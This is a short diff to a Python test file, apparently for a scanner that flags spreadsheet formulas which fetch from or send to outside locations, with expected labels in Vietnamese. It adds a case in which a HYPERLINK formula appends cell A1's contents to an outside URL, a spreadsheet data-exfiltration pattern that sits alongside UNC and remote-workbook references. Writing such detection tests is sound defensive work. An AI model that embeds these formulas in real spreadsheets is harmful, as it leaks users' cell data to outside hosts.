@@ -81,6 +81,7 @@ def test_what_is_fetched_comes_from_elsewhere() -> None:
         ('HYPERLINK(UNICHAR(92)&CHAR(92)&"may")', LOCAL_LINK),
         ('LET(x,"file:///c:/a",HYPERLINK(x))', LOCAL_LINK),
         ('HYPERLINK("http://a.vn/?x="&A1,"Xem")', "liên kết gửi dữ liệu trong ô ra ngoài"),
+        ('HYPERLINK("http://a.vn/?(a,"&A1,"Xem")', "liên kết gửi dữ liệu trong ô ra ngoài"),
         ("'\\\\may\\[a.xlsx]S'!A1", "bảng tính lấy số liệu từ máy khác"),
         ("SUM('https://a.vn/[a.xlsx]S'!A1)", "bảng tính lấy số liệu từ máy khác"),
     ],
